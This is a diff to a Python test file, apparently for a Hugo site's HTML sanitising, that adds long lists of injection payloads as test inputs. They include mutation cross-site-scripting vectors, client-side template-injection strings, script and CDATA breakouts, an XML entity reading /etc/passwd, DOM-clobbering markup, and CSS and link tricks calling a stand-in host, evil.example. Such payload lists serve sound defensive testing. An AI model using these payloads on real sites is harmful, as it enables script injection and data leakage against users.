@@ -199,13 +199,127 @@ ODD = (
     "<b>" * 2_000,
     "::error file=x::y",
 )  # fmt: skip
+# Shapes that a parser turns into something else when it writes them and reads them again.
+MUTATING = (
+    "<math><mtext><table><mglyph><style><!--</style><img title=--&gt;&lt;img onerror=alert(1)>",
+    "<svg></p><style><g title=</style><img src=x onerror=alert(1)>",
+    "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=alert(1)>",
+    "<svg><desc><table><td><a title=</a><img src=x onerror=alert(1)>",
+    "<math><mi><style><img src=x onerror=alert(1)></style></mi></math>",
+    "<svg><title><style><img src=x onerror=alert(1)></style></title></svg>",
+    "<select><template><style><!--</style><a rel=--></style></select><img src=x onerror=alert(1)>",
+    "<table><tr><td><svg><desc><td></desc></svg><img src=x onerror=alert(1)>",
+    "<listing>&lt;img src=x onerror=alert(1)&gt;</listing>",
+    "<textarea></p><style></textarea><img src=x onerror=alert(1)>",
+    "<noembed><img title=</noembed><img src=x onerror=alert(1)>>",
+    "<frameset onload=alert(1)><frame src=javascript:alert(1)>",
+    "<a><a href=javascript:alert(1)><table><a></table>",
+    "<b <script>alert(1)</script>0",
+    "<<script>alert(1);//<</script>",
+    "<img src=x:x onerror\u000b=alert(1)>",
+    "<img src=x onerror\u000c=\u000calert(1)>",
+    "<svg><set attributeName=onmouseover to=alert(1)>",
+    "<svg><style>@import url(//evil.example/x.css)</style></svg>",
+    "<svg><image href=https://evil.example/x.png>",
+    "<svg><feImage href=https://evil.example/x.svg#a>",
+    "<svg><handler xmlns:ev=http://www.w3.org/2001/xml-events ev:event=load>alert(1)</handler>",
+    "<math><maction actiontype=statusline xlink:href=javascript:alert(1)>x</maction></math>",
+    "<math><semantics><annotation-xml encoding=application/xhtml+xml><script>alert(1)</script>",
+)
+# Braces that a library in the page, and not Hugo, would run.
+CLIENT = (
+    "{{constructor.constructor('alert(1)')()}}",
+    "{{$on.constructor('alert(1)')()}}",
+    "{{7*7}}",
+    "[[constructor.constructor('alert(1)')()]]",
+    "<%= alert(1) %>",
+    "#{alert(1)}",
+    "{% raw %}{{ x }}{% endraw %}",
+    "<div v-html=x>",
+    "<div ng-app ng-csp>{{x}}</div>",
+    "<div x-data=1 x-init=alert(1)>",
+    "<div data-bind=html:x>",
+    "<div hx-get=https://evil.example/ hx-trigger=load>",
+)
+# What would get out of a JSON-LD block, of a feed's CDATA, or of a value in them.
+BLOCKS = (
+    "</script><script>alert(1)</script>",
+    "<!--<script>alert(1)",
+    "</script >",
+    "\\u003c/script\\u003e",
+    "\\",
+    "\\'",
+    "\u2028alert(1)\u2029",
+    "]]></content:encoded><x:script xmlns:x='http://www.w3.org/1999/xhtml'>alert(1)</x:script>",
+    "]]]]><![CDATA[>",
+    "<?php alert(1) ?>",
+    "<!ENTITY x SYSTEM 'file:///etc/passwd'>",
+    "&x;&nbsp;&#0;&#xD800;&#x110000;",
+    "</title></head><body onload=alert(1)>",
+    "</textarea></style></noscript></template><img src=x onerror=alert(1)>",
+    "},{'@type':'Person'}",
+    "😀",
+)
+# Names that a script would find in the place of its own: document.body, window.name, ...
+CLOBBERING = (
+    "location",
+    "document",
+    "__proto__",
+    "constructor",
+    "toString",
+    "hasOwnProperty",
+    "body",
+    "main",
+    "content",
+    "getElementById",
+    "<a id=location name=href href=javascript:alert(1)>",
+    "<img name=getElementById>",
+    "<form id=document><input name=cookie>",
+    "<object id=config data=https://evil.example/>",
+)
+# What takes the look of the page, the reader's clicks, or a style's rules.
+LOOKS = (
+    "<div class=mtm-quote data-user=owner>x</div>",
+    "<a data-mtm-own href=https://evil.example/>x</a>",
+    "x mtm-highlight mtm-h35",
+    "mtm-quote mtm-right site-header",
+    "<div hidden popover id=x><button popovertarget=x>",
+    "<dialog open>",
+    "<button type=submit formaction=https://evil.example/ command=show-modal commandfor=x>",
+    "<label for=main>x</label>",
+    "<input type=image src=https://evil.example/x.png>",
+    "<portal src=https://evil.example/>",
+    "<slot name=x>",
+    "<link rel=prefetch href=https://evil.example/>",
+    "<link rel=dns-prefetch href=//evil.example>",
+    "<meta http-equiv=Content-Security-Policy content=script-src*>",
+    "<meta name=referrer content=unsafe-url>",
+    "<a href=https://evil.example/ ping=https://evil.example/ping>x</a>",
+    "<video poster=https://evil.example/x.png>",
+    "<picture><source srcset=https://evil.example/x.png><img>",
+    "<track src=https://evil.example/x.vtt>",
+    "<script type=speculationrules>{}</script>",
+    "<script type=importmap>{}</script>",
+    "}*{display:none}",
+    "/**/*{background:url(//evil.example/)}",
+    "\\3c script\\3e",
+    "-moz-binding:url(https://evil.example/x.xml#x)",
+    "var(--x,url(https://evil.example/))",
+    "\u2066evil\u2069\u2067x",
+    "\u061c\u200e\u200f",
+    "\u115f\u3164\uffa0",
+    "\u0085\u2028",
+)
 CLOSERS = ("", '">', "'>", "-->", "]]>", "</code>", "</a>", "</blockquote>", "`")
 MIXED = tuple(
     f"{closer}{vector}"
     for closer in CLOSERS[1:]
     for vector in (VECTORS[0], VECTORS[5], VECTORS[9], VECTORS[19], VECTORS[42], SCHEMES[0])
 )  # fmt: skip
-ALL = (*VECTORS, *SCHEMES, *MARKDOWN, *HUGO, *ODD, *MIXED)
+ALL = (
+    *(*VECTORS, *SCHEMES, *MARKDOWN, *HUGO, *ODD, *MIXED),
+    *(*MUTATING, *CLIENT, *BLOCKS, *CLOBBERING, *LOOKS),
+)
 
 
 def writable() -> list[str]:
